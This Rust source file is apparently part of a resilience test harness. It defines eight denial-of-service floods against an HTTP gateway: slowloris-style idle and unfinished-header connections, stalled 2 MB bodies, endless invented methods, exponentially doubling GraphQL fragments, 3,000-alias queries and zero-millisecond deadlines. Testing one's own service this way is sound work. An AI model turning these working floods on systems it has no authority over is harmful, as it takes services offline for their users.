//! The attacks. Each goes on until it is stopped.

use std::{pin::Pin, time::Duration};

use anyhow::{Context, Result};
use futures::future::{join_all, try_join_all};
use reqwest::Method;
use serde_json::json;
use tokio::{io::AsyncWriteExt, net::TcpStream};

type Flood = fn(String) -> Pin<Box<dyn Future<Output = Result<()>> + Send>>;

/// Every attack, by its name.
pub(crate) const ALL: [(&str, Flood); 8] = [
    ("none", |_| Box::pin(std::future::pending())),
    ("500 connections that say nothing", |gateway| Box::pin(connections(gateway, 500, ""))),
    ("500 heads that do not end", |gateway| Box::pin(connections(gateway, 500, "GET / HTTP/1.1\r\nhost: a\r\nx-"))),
    ("100 bodies of 2 MB of which the end is missing", |gateway| Box::pin(unfinished_bodies(gateway))),
    ("invented methods", |gateway| Box::pin(invented_methods(gateway))),
    ("GraphQL: fragments that double", |gateway| Box::pin(graphql(gateway, doubling_fragments()))),
    ("GraphQL: 3,000 searches in a request", |gateway| Box::pin(graphql(gateway, many_searches()))),
    ("deadlines of 0 ms", |gateway| Box::pin(deadlines(gateway))),
];

fn address(gateway: &str) -> Result<&str> {
    gateway.strip_prefix("http://").context("an http URL")
}

/// Opens connections, sends the same on each, and keeps them.
async fn connections(gateway: String, count: usize, begun: &'static str) -> Result<()> {
    let open = || async {
        let mut stream = TcpStream::connect(address(&gateway)?).await?;
        stream.write_all(begun.as_bytes()).await?;
        anyhow::Ok(stream)
    };
    let _kept = try_join_all((0..count).map(|_| open())).await?;
    std::future::pending().await
}

async fn unfinished_bodies(gateway: String) -> Result<()> {
    let length = 2_000_000;
    let head = format!(
        "POST /api/users/register HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: {length}\r\n\r\n"
    );
    let body = vec![b' '; length - 1];
    let send = || async {
        let mut stream = TcpStream::connect(address(&gateway)?).await?;
        // The service need not read all of it.
        let _ = async {
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(&body).await
        }
        .await;
        anyhow::Ok(stream)
    };
    let _kept = join_all((0..100).map(|_| send())).await;
    std::future::pending().await
}

async fn invented_methods(gateway: String) -> Result<()> {
    let client = reqwest::Client::new();
    for number in 0.. {
        let method = Method::from_bytes(format!("M{number}").as_bytes())?;
        let _ = client.request(method, &gateway).send().await?;
    }
    Ok(())
}

/// Two clients send a query without a pause.
async fn graphql(gateway: String, query: String) -> Result<()> {
    let client = reqwest::Client::new();
    let (url, body) = (format!("{gateway}/graphql"), json!({"query": query}));
    let send = || async {
        loop {
            // Slow or refused: both are fine.
            let _ = client.post(&url).json(&body).timeout(Duration::from_secs(5)).send().await;
        }
    };
    join_all([send(), send()]).await;
    Ok(())
}

/// A kilobyte: 25 fragments, each of which spreads the next one twice.
fn doubling_fragments() -> String {
    let mut query = "{...f0} ".to_owned();
    for n in 0..25 {
        query += &format!("fragment f{n} on Query{{...f{m} ...f{m}}} ", m = n + 1);
    }
    query + "fragment f25 on Query{categories}"
}

fn many_searches() -> String {
    let searches: String = (0..3_000).map(|n| format!("a{n}: catalog(search: \"tea{n}\"){{totalCount}} ")).collect();
    format!("{{{searches}}}")
}

async fn deadlines(gateway: String) -> Result<()> {
    let client = reqwest::Client::new();
    loop {
        let _ = client.get(format!("{gateway}/api/orders")).header("x-timeout-ms", "0").send().await?;
    }
}
